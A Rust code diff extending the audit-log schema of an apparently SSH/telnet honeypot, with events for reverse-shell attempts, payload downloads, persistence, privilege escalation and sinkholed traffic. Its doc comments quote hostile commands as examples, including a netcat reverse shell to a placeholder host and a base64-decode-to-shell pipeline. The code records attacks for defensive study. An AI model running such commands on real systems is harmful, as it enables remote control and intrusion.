@@ -11,30 +11,83 @@ use strum::IntoStaticStr;
 use time::OffsetDateTime;
 use uuid::Uuid;
 
+/// Version of the audit log schema written by this build, bumped whenever a change to the
+/// events needs older logs to be migrated before they can be read.
+pub const SCHEMA_VERSION: u32 = 1;
+
 #[derive(Serialize, Deserialize)]
 pub struct AuditLog {
+    /// Version of the schema the log was written with, missing from logs written before it was
+    /// recorded, which are read as version 0.
+    #[serde(default)]
+    pub schema_version: u32,
     pub connection_id: Uuid,
     #[serde(with = "time::serde::rfc3339")]
     pub ts: OffsetDateTime,
     pub peer_address: Option<SocketAddr>,
     pub host: Cow<'static, str>,
+    /// ID of the sensor the log was forwarded from, set by the collector it was forwarded to.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub sensor: Option<Cow<'static, str>>,
+    /// Protocol the client connected over, only included for protocols other than SSH.
+    #[serde(skip_serializing_if = "Protocol::is_ssh", default)]
+    pub protocol: Protocol,
     #[serde(skip_serializing_if = "Vec::is_empty", default)]
     pub environment_variables: Vec<(Box<str>, Box<str>)>,
     pub events: Vec<AuditLogEvent>,
+    /// Labels describing what the client was up to, ie. `miner-recon`.
+    #[serde(skip_serializing_if = "Vec::is_empty", default)]
+    pub tags: Vec<Cow<'static, str>>,
+    /// Path of the asciicast recording of the connection's terminal, if one was written.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub recording: Option<Box<str>>,
+    /// The client's side of the SSH handshake, if it got that far.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub client_handshake: Option<ClientHandshake>,
+    /// Location and network of the peer address, if a GeoIP database has been configured.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub geoip: Option<GeoIp>,
+    /// Name the peer address's PTR record points to, if reverse DNS lookups are enabled.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub reverse_dns: Option<Box<str>>,
+    /// When the connection was closed.
+    #[serde(
+        with = "time::serde::rfc3339::option",
+        skip_serializing_if = "Option::is_none",
+        default
+    )]
+    pub ended_at: Option<OffsetDateTime>,
+    /// How long the connection was open for, in milliseconds.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub duration_ms: Option<u64>,
     #[serde(skip, default = "Instant::now")]
     pub start: Instant,
+    /// Number of the channel events are currently being recorded against, if any.
+    #[serde(skip)]
+    pub channel: Option<u32>,
 }
 
 impl Default for AuditLog {
     fn default() -> Self {
         Self {
+            schema_version: SCHEMA_VERSION,
             connection_id: Uuid::default(),
             ts: OffsetDateTime::now_utc(),
             host: Cow::Borrowed(""),
+            sensor: None,
             peer_address: None,
+            protocol: Protocol::default(),
             environment_variables: vec![],
             events: vec![],
+            tags: vec![],
+            recording: None,
+            client_handshake: None,
+            geoip: None,
+            reverse_dns: None,
+            ended_at: None,
+            duration_ms: None,
             start: Instant::now(),
+            channel: None,
         }
     }
 }
@@ -45,27 +98,143 @@ impl Debug for AuditLog {
         f.debug_struct("AuditLog")
             .field("connection_id", &self.connection_id)
             .field("peer_address", &self.peer_address)
+            .field("protocol", &self.protocol)
             .field("environment_variables", &self.environment_variables)
             .field("events", &self.events)
+            .field("tags", &self.tags)
+            .field("recording", &self.recording)
+            .field("client_handshake", &self.client_handshake)
             .finish()
     }
 }
 
 impl AuditLog {
     pub fn push_action(&mut self, action: AuditLogAction) {
+        let start_offset = self.start.elapsed();
+
         self.events.push(AuditLogEvent {
-            start_offset: self.start.elapsed(),
+            start_offset,
+            ts: Some(OffsetDateTime::now_utc()),
+            offset_ms: millis(start_offset),
+            channel: self.channel,
             action,
         });
     }
+
+    /// Tags the connection with `tag`, unless it's already been tagged with it.
+    pub fn tag(&mut self, tag: impl Into<Cow<'static, str>>) {
+        let tag = tag.into();
+
+        if !self.tags.contains(&tag) {
+            self.tags.push(tag);
+        }
+    }
+
+    /// Records the end of the connection.
+    pub fn finish(&mut self) {
+        self.ended_at = Some(OffsetDateTime::now_utc());
+        self.duration_ms = Some(millis(self.start.elapsed()));
+    }
+
+    /// Sums up the connection's events, for consumers that would otherwise have to go through
+    /// them all themselves. `auth_method` is the method the client logged in with, if it did.
+    #[must_use]
+    pub fn summary(&self, auth_method: Option<AuthMethod>) -> SessionSummaryEvent {
+        let mut summary = SessionSummaryEvent {
+            duration_ms: self
+                .duration_ms
+                .unwrap_or_else(|| millis(self.start.elapsed())),
+            login_attempts: 0,
+            auth_method,
+            commands: 0,
+            bytes_uploaded: 0,
+            bytes_downloaded: 0,
+            tags: self.tags.clone(),
+        };
+
+        for event in &self.events {
+            match &event.action {
+                AuditLogAction::LoginAttempt(_) => summary.login_attempts += 1,
+                AuditLogAction::ExecCommand(_) => summary.commands += 1,
+                AuditLogAction::WriteFile(write) => summary.bytes_uploaded += write.size as u64,
+                AuditLogAction::DownloadAttempt(download) => {
+                    summary.bytes_downloaded += download.size.unwrap_or_default() as u64;
+                }
+                _ => {}
+            }
+        }
+
+        summary
+    }
 }
 
-#[derive(Debug, Serialize, Deserialize)]
+fn millis(duration: Duration) -> u64 {
+    u64::try_from(duration.as_millis()).unwrap_or(u64::MAX)
+}
+
+/// Identification string and algorithms offered by the client at the start of the connection,
+/// which identify the client implementation far better than its address does.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ClientHandshake {
+    /// The client's identification string, ie. `SSH-2.0-OpenSSH_9.3`.
+    pub version: Box<str>,
+    pub kex_algorithms: Vec<Box<str>>,
+    pub server_host_key_algorithms: Vec<Box<str>>,
+    /// Ciphers offered for client to server traffic.
+    pub encryption_algorithms: Vec<Box<str>>,
+    /// MACs offered for client to server traffic.
+    pub mac_algorithms: Vec<Box<str>>,
+    /// Compression algorithms offered for client to server traffic.
+    pub compression_algorithms: Vec<Box<str>>,
+    /// HASSH fingerprint of the offered algorithms.
+    pub hassh: Box<str>,
+}
+
+/// Where the peer address is according to the configured GeoIP databases, only the fields the
+/// databases have an answer for are set.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct GeoIp {
+    /// ISO 3166-1 alpha-2 code of the country, ie. `GB`.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub country: Option<Box<str>>,
+    /// English name of the city.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub city: Option<Box<str>>,
+    /// Number of the autonomous system announcing the address.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub asn: Option<u32>,
+    /// Organisation the autonomous system belongs to.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub org: Option<Box<str>>,
+}
+
+#[derive(Serialize, Deserialize)]
 pub struct AuditLogEvent {
     pub start_offset: Duration,
+    /// Wall-clock time the event happened at, missing from logs written by older versions.
+    #[serde(with = "time::serde::rfc3339::option", default)]
+    pub ts: Option<OffsetDateTime>,
+    /// Milliseconds since the start of the connection.
+    #[serde(default)]
+    pub offset_ms: u64,
+    /// Session channel the event happened on, numbered from 1 in the order the client opened
+    /// them, or none for events that belong to the connection as a whole.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub channel: Option<u32>,
     pub action: AuditLogAction,
 }
 
+#[allow(clippy::missing_fields_in_debug)]
+impl Debug for AuditLogEvent {
+    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("AuditLogEvent")
+            .field("start_offset", &self.start_offset)
+            .field("channel", &self.channel)
+            .field("action", &self.action)
+            .finish()
+    }
+}
+
 #[derive(Debug, Serialize, Deserialize, IntoStaticStr)]
 #[serde(tag = "type", rename_all = "kebab-case")]
 #[strum(serialize_all = "kebab-case")]
@@ -75,7 +244,10 @@ pub enum AuditLogAction {
     X11Request(X11RequestEvent),
     OpenX11(OpenX11Event),
     OpenDirectTcpIp(OpenDirectTcpIpEvent),
+    ForwardedData(ForwardedDataEvent),
+    ForwardedRequest(ForwardedRequestEvent),
     ExecCommand(ExecCommandEvent),
+    Keystrokes(KeystrokesEvent),
     WindowAdjusted(WindowAdjustedEvent),
     ShellRequested,
     SubsystemRequest(SubsystemRequestEvent),
@@ -83,8 +255,110 @@ pub enum AuditLogAction {
     Signal(SignalEvent),
     TcpIpForward(TcpIpForwardEvent),
     CancelTcpIpForward(TcpIpForwardEvent),
+    RemoteForwardConnection(RemoteForwardConnectionEvent),
     Mkdir(MkdirEvent),
     WriteFile(WriteFileEvent),
+    FileOperation(FileOperationEvent),
+    SftpRequest(SftpRequestEvent),
+    DownloadAttempt(DownloadAttemptEvent),
+    Quarantined(QuarantinedEvent),
+    DecodedPayload(DecodedPayloadEvent),
+    InterpreterPayload(InterpreterPayloadEvent),
+    ReverseShellAttempt(ReverseShellAttemptEvent),
+    LateralMovement(LateralMovementEvent),
+    PersistenceAttempt(PersistenceAttemptEvent),
+    PrivilegeEscalation(PrivilegeEscalationEvent),
+    PasswordChange(PasswordChangeEvent),
+    PackageInstall(PackageInstallEvent),
+    ContainerRequest(ContainerRequestEvent),
+    RateLimited(RateLimitedEvent),
+    Tarpitted(TarpittedEvent),
+    Disconnected(DisconnectedEvent),
+    SessionSummary(SessionSummaryEvent),
+}
+
+/// Totals for the whole connection, logged as its last event once it closes.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct SessionSummaryEvent {
+    pub duration_ms: u64,
+    pub login_attempts: usize,
+    /// Method the client logged in with, if it got in at all.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub auth_method: Option<AuthMethod>,
+    /// Number of commands the client ran.
+    pub commands: usize,
+    /// Bytes the client wrote to files, whether uploaded or written from the shell.
+    pub bytes_uploaded: u64,
+    /// Bytes of payloads fetched on the client's behalf by `wget` and `curl`.
+    pub bytes_downloaded: u64,
+    /// Tags the connection was given when it closed.
+    #[serde(skip_serializing_if = "Vec::is_empty", default)]
+    pub tags: Vec<Cow<'static, str>>,
+}
+
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum AuthMethod {
+    Password,
+    PublicKey,
+    KeyboardInteractive,
+}
+
+/// The connection was dropped before the handshake for exceeding a limit on connections from
+/// the peer's address.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct RateLimitedEvent {
+    pub limit: RateLimit,
+}
+
+/// The connection was held in a tarpit until the client gave up, without ever getting as far
+/// as the handshake.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct TarpittedEvent {
+    /// Number of bytes of banner the client sat through.
+    pub bytes_sent: u64,
+}
+
+/// We disconnected the client, rather than the client going away of its own accord.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct DisconnectedEvent {
+    pub reason: DisconnectReason,
+}
+
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum DisconnectReason {
+    /// The client failed to authenticate `max-auth-tries` times.
+    TooManyAuthenticationFailures,
+    /// The client didn't finish logging in over telnet within the time allowed.
+    LoginTimeout,
+}
+
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq, IntoStaticStr)]
+#[serde(rename_all = "kebab-case")]
+#[strum(serialize_all = "kebab-case")]
+pub enum Protocol {
+    #[default]
+    Ssh,
+    Telnet,
+}
+
+impl Protocol {
+    // serde's `skip_serializing_if` hands us a reference
+    #[allow(clippy::trivially_copy_pass_by_ref)]
+    #[must_use]
+    pub fn is_ssh(&self) -> bool {
+        *self == Self::Ssh
+    }
+}
+
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum RateLimit {
+    /// The peer already had as many connections open as it's allowed.
+    ConcurrentConnections,
+    /// The peer was opening new connections faster than it's allowed.
+    ConnectionRate,
 }
 
 #[derive(Debug, Serialize, Deserialize)]
@@ -92,10 +366,335 @@ pub struct MkdirEvent {
     pub path: Box<str>,
 }
 
+/// A file or directory was changed by one of the file manipulation commands, other than by
+/// writing to it.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct FileOperationEvent {
+    pub path: Box<str>,
+    #[serde(flatten)]
+    pub operation: FileOperation,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(tag = "operation", rename_all = "kebab-case")]
+pub enum FileOperation {
+    /// The permissions were changed, usually to make a payload executable.
+    Chmod {
+        /// Octal mode the path was left with.
+        mode: Box<str>,
+    },
+    /// Attributes were changed by `chattr`, ie. `+i` to stop anybody else removing it.
+    Chattr {
+        attributes: Box<str>,
+    },
+    Move {
+        to: Box<str>,
+    },
+    Copy {
+        to: Box<str>,
+    },
+    Remove,
+    /// An archive was extracted, along with the paths of everything it contained.
+    Extract {
+        files: Vec<Box<str>>,
+    },
+    /// An archive was created, from the given paths.
+    Archive {
+        files: Vec<Box<str>>,
+    },
+}
+
 #[derive(Debug, Serialize, Deserialize)]
 pub struct WriteFileEvent {
     pub path: Box<str>,
     pub content: Bytes,
+    /// Hex-encoded SHA-256 digest of `content`.
+    #[serde(default)]
+    pub sha256: Box<str>,
+    /// Length of `content` in bytes.
+    #[serde(default)]
+    pub size: usize,
+    /// Name of the file as sent by the client, for protocols that send one separately to the
+    /// target path.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub original_name: Option<Box<str>>,
+    /// Octal file mode requested by the client.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub mode: Option<Box<str>>,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct DownloadAttemptEvent {
+    /// Command the download was requested through, ie. `wget` or `curl`.
+    pub tool: Cow<'static, str>,
+    pub url: Box<str>,
+    /// Path the payload was to be written to, `None` if it was written to stdout.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub output: Option<Box<str>>,
+    /// Hex-encoded SHA-256 digest of the payload, if it was fetched.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub sha256: Option<Box<str>>,
+    /// Length of the payload in bytes, if it was fetched.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub size: Option<usize>,
+    /// Reason the payload couldn't be fetched, if fetching is enabled.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub error: Option<Box<str>>,
+}
+
+/// A captured payload was stored in the quarantine directory, named by its hash.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct QuarantinedEvent {
+    /// Hex-encoded SHA-256 digest of the payload.
+    pub sha256: Box<str>,
+    /// Length of the payload in bytes.
+    pub size: usize,
+    /// Command or subsystem the payload came in through, ie. `wget` or `sftp`.
+    pub tool: Cow<'static, str>,
+    /// What VirusTotal knows of the payload, if it was looked up before the connection closed.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub virustotal: Option<VirusTotalReport>,
+}
+
+/// Detections of a payload on VirusTotal.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct VirusTotalReport {
+    /// Whether VirusTotal had seen the payload before, those it hasn't are likely to be worth
+    /// a closer look.
+    pub known: bool,
+    /// Number of engines that flagged the payload as malicious.
+    #[serde(default)]
+    pub malicious: u32,
+    /// Number of engines that flagged the payload as suspicious.
+    #[serde(default)]
+    pub suspicious: u32,
+    /// Number of engines that scanned the payload.
+    #[serde(default)]
+    pub engines: u32,
+    /// VirusTotal's suggested name for the threat, ie. `trojan.mirai/gafgyt`.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub label: Option<Box<str>>,
+    /// Names the detecting engines gave the payload, most common first.
+    #[serde(skip_serializing_if = "Vec::is_empty", default)]
+    pub names: Vec<Box<str>>,
+}
+
+/// An encoded payload was decoded by a pipeline that fed it into a shell, as in
+/// `echo <base64> | base64 -d | sh`.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct DecodedPayloadEvent {
+    /// Encoding the payload was decoded from, ie. `base64` or `hex`.
+    pub encoding: Cow<'static, str>,
+    pub encoded: Box<str>,
+    pub decoded: Bytes,
+}
+
+/// A script was handed to an interpreter, as in `python -c '...'`, which is how the
+/// overwhelming majority of reverse shells are delivered.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct InterpreterPayloadEvent {
+    /// Interpreter the script was given to, ie. `python3`.
+    pub interpreter: Cow<'static, str>,
+    #[serde(flatten)]
+    pub source: ScriptSource,
+    pub script: Box<str>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(tag = "source", rename_all = "kebab-case")]
+pub enum ScriptSource {
+    /// The script was given on the command line, as in `perl -e`.
+    Argument,
+    /// The script was read from stdin, whether it was piped in or given as a heredoc.
+    Stdin,
+    /// The script was read from a file on the virtual file system.
+    File { path: Box<str> },
+}
+
+/// The client tried to connect out to a listener of theirs, as in `nc 10.0.0.1 4444 -e /bin/sh`,
+/// giving away where they're controlling the machine from.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ReverseShellAttemptEvent {
+    /// Command the connection was attempted through, ie. `nc`.
+    pub tool: Cow<'static, str>,
+    pub host: Box<str>,
+    pub port: u16,
+    /// Program the connection would have been handed to, if one was given.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub program: Option<Box<str>>,
+}
+
+/// The client tried logging in to another machine from ours, as in `ssh admin@10.0.0.5`, giving
+/// away where they're headed next along with the credentials they have for it.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct LateralMovementEvent {
+    /// Client the login was attempted with, ie. `ssh`.
+    pub tool: Cow<'static, str>,
+    pub host: Box<str>,
+    pub port: u16,
+    pub username: Box<str>,
+    /// Passwords typed at the prompt, which is empty if the client never got as far as it.
+    pub passwords: Vec<Box<str>>,
+    /// Command to be run on the other machine, which for `scp` is the transfer itself.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub command: Option<Box<str>>,
+}
+
+/// The client wrote to a file that'd let it keep a foothold on the machine after it disconnects.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct PersistenceAttemptEvent {
+    pub path: Box<str>,
+    #[serde(flatten)]
+    pub mechanism: PersistenceMechanism,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+#[serde(tag = "mechanism", rename_all = "kebab-case")]
+pub enum PersistenceMechanism {
+    /// Public keys were written to an `authorized_keys` file, so whoever holds the private half
+    /// can log back in later without needing the password.
+    AuthorizedKeys { keys: Vec<AuthorizedKey> },
+    /// Jobs were added to a crontab, or a script dropped into one of the periodic cron
+    /// directories.
+    Cron { entries: Vec<CronEntry> },
+    /// A systemd unit was written, or an existing one overridden by a drop-in, so whatever it
+    /// runs is started again on boot or on a timer once it's enabled.
+    Systemd {
+        /// Name of the unit, ie. `kworker.service`.
+        unit: Box<str>,
+        /// Commands from the unit's `ExecStart` and similar directives.
+        commands: Vec<Box<str>>,
+        /// User the commands are run as, if the unit names one.
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        user: Option<Box<str>>,
+        /// Targets the unit is installed into when enabled, ie. `multi-user.target`.
+        #[serde(skip_serializing_if = "Vec::is_empty", default)]
+        wanted_by: Vec<Box<str>>,
+        /// Calendar expressions the unit is triggered on, if it's a timer.
+        #[serde(skip_serializing_if = "Vec::is_empty", default)]
+        on_calendar: Vec<Box<str>>,
+    },
+}
+
+/// A single line of an `authorized_keys` file.
+#[derive(Debug, Serialize, Deserialize, PartialEq, Eq)]
+pub struct AuthorizedKey {
+    /// Key type, ie. `ssh-ed25519`.
+    pub kind: Box<str>,
+    /// Base64-encoded public key.
+    pub key: Box<str>,
+    /// Fingerprint of the key in the same format as logged for public key logins, if it's a
+    /// type we can parse.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub fingerprint: Option<Box<str>>,
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub comment: Option<Box<str>>,
+    /// Options restricting the key, ie. `no-pty,command="..."`.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub options: Option<Box<str>>,
+}
+
+/// The client gave a password to `sudo` or `su`, which is more likely to be one they know
+/// works somewhere than those thrown at the login prompt.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct PrivilegeEscalationEvent {
+    /// Command the password was given to, ie. `sudo`.
+    pub tool: Cow<'static, str>,
+    /// User the client was running as.
+    pub username: Box<str>,
+    /// User the client was switching to.
+    pub target: Box<str>,
+    pub password: Box<str>,
+}
+
+/// The client went through `passwd`, most likely to lock out anybody else once they're in.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct PasswordChangeEvent {
+    /// User the client was running as.
+    pub username: Box<str>,
+    /// User whose password was being changed.
+    pub target: Box<str>,
+    /// Password given as the current one, which isn't asked of root.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub current: Option<Box<str>>,
+    pub new: Box<str>,
+    /// Confirmation of the new password, which isn't asked for when it's read with `--stdin`.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub retyped: Option<Box<str>>,
+}
+
+/// The client asked a package manager to install something, which says a lot about what
+/// they're planning on doing next.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct PackageInstallEvent {
+    /// Package manager the install was requested through, ie. `apt-get`.
+    pub manager: Cow<'static, str>,
+    pub packages: Vec<Package>,
+}
+
+#[derive(Debug, Serialize, Deserialize, PartialEq, Eq)]
+pub struct Package {
+    pub name: Box<str>,
+    /// Version the client asked for, if they pinned one.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub version: Option<Box<str>>,
+}
+
+/// The client asked a container runtime or orchestrator to pull or start something, usually a
+/// miner or an image that'll let them break out onto the host.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ContainerRequestEvent {
+    /// Command the request was made through, ie. `docker`.
+    pub tool: Cow<'static, str>,
+    #[serde(flatten)]
+    pub request: ContainerRequest,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(tag = "request", rename_all = "kebab-case")]
+pub enum ContainerRequest {
+    /// An image was pulled without being run.
+    Pull { image: Box<str> },
+    /// A container was started from an image.
+    Run {
+        image: Box<str>,
+        /// Command the container was asked to run in place of the image's own.
+        #[serde(default)]
+        command: Vec<Box<str>>,
+        /// Whether the container was given all of the host's capabilities and devices.
+        #[serde(default)]
+        privileged: bool,
+        /// Host paths mounted into the container, as given to `-v` or `--mount`.
+        #[serde(default)]
+        volumes: Vec<Box<str>>,
+    },
+    /// A manifest was applied to the cluster.
+    Apply {
+        /// Path or URL the manifest was read from.
+        path: Box<str>,
+        /// Content of the manifest, if it was in the virtual file system.
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        manifest: Option<Box<str>>,
+    },
+}
+
+/// A single job from a crontab.
+#[derive(Debug, Serialize, Deserialize, PartialEq, Eq)]
+pub struct CronEntry {
+    /// The five time fields, or a nickname such as `@reboot`.
+    pub schedule: Box<str>,
+    /// User the job runs as, taken from the line itself in the system-wide crontabs or from the
+    /// name of the file in the per-user ones.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub user: Option<Box<str>>,
+    pub command: Box<str>,
+}
+
+#[derive(Debug, Serialize, Deserialize)]
+pub struct SftpRequestEvent {
+    pub operation: Cow<'static, str>,
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub path: Option<Box<str>>,
 }
 
 #[derive(Debug, Serialize, Deserialize)]
@@ -103,6 +702,19 @@ pub struct ExecCommandEvent {
     pub args: Box<[String]>,
 }
 
+/// Timing of the input the client typed into a PTY to make up a line, logged as the line is
+/// entered. What was typed is left to the `exec-command` event, if it's recorded at all.
+#[derive(Debug, Serialize, Deserialize, Default, PartialEq, Eq)]
+pub struct KeystrokesEvent {
+    /// Milliseconds between each read of input and the one before it, the first being since the
+    /// previous line was entered.
+    pub intervals_ms: Vec<u32>,
+    /// Number of bytes in each read, left empty if every read was a single keystroke. Scripts
+    /// tend to send a line in one go, while people send it a key at a time.
+    #[serde(skip_serializing_if = "Vec::is_empty", default)]
+    pub sizes: Vec<u32>,
+}
+
 #[derive(Debug, Serialize, Deserialize)]
 pub struct WindowAdjustedEvent {
     pub new_size: usize,
@@ -129,6 +741,11 @@ pub enum LoginAttemptEvent {
         kind: Cow<'static, str>,
         fingerprint: Box<str>,
     },
+    /// Answers submitted to our keyboard-interactive prompts, in the order they were prompted.
+    KeyboardInteractive {
+        username: Box<str>,
+        responses: Vec<Box<str>>,
+    },
 }
 
 #[derive(Debug, Serialize, Deserialize)]
@@ -145,6 +762,9 @@ pub struct PtyRequestEvent {
 pub struct OpenX11Event {
     pub originator_address: Box<str>,
     pub originator_port: u32,
+    /// Cookie from the client's earlier `x11-req`, if X11 forwarding was accepted.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub x11_auth_cookie: Option<Box<str>>,
 }
 
 #[derive(Debug, Serialize, Deserialize)]
@@ -163,6 +783,79 @@ pub struct OpenDirectTcpIpEvent {
     pub originator_port: u32,
 }
 
+/// Traffic the client sent down a `direct-tcpip` channel that was accepted into the sinkhole,
+/// which never went any further.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ForwardedDataEvent {
+    pub host_to_connect: Box<str>,
+    pub port_to_connect: u32,
+    pub data: Bytes,
+    /// Whether the client sent more than we were willing to capture, in which case the rest was
+    /// dropped and the channel closed.
+    #[serde(default)]
+    pub truncated: bool,
+}
+
+/// A request the client made of whatever it thought was listening at the other end of a
+/// sinkholed `direct-tcpip` channel, which we answered just well enough to keep it talking.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct ForwardedRequestEvent {
+    pub host_to_connect: Box<str>,
+    pub port_to_connect: u32,
+    pub request: ForwardedRequest,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "protocol", rename_all = "kebab-case")]
+pub enum ForwardedRequest {
+    /// An HTTP request, including `CONNECT`s asking us to act as a proxy.
+    Http {
+        method: Box<str>,
+        target: Box<str>,
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        host: Option<Box<str>>,
+        /// Credentials from the `Authorization` or `Proxy-Authorization` header, decoded to
+        /// `username:password` if they were sent as basic auth.
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        credentials: Option<Box<str>>,
+    },
+    /// Credentials the client authenticated to the SMTP server with.
+    SmtpLogin {
+        username: Box<str>,
+        password: Box<str>,
+    },
+    /// A message the client handed to the SMTP server for delivery.
+    SmtpMessage {
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        helo: Option<Box<str>>,
+        from: Box<str>,
+        recipients: Vec<Box<str>>,
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        subject: Option<Box<str>>,
+        /// Size of the message in bytes.
+        size: usize,
+    },
+    /// A SOCKS5 request asking us to connect onwards to `host`.
+    Socks {
+        host: Box<str>,
+        port: u16,
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        username: Option<Box<str>>,
+        #[serde(skip_serializing_if = "Option::is_none", default)]
+        password: Option<Box<str>>,
+    },
+}
+
+/// We opened a channel to the client for a made up connection to one of the remote forwards it
+/// asked for, as if somebody had connected to it.
+#[derive(Debug, Serialize, Deserialize)]
+pub struct RemoteForwardConnectionEvent {
+    pub address: Box<str>,
+    pub port: u32,
+    pub originator_address: Box<str>,
+    pub originator_port: u32,
+}
+
 #[derive(Debug, Serialize, Deserialize)]
 pub struct WindowChangeRequestEvent {
     pub col_width: u32,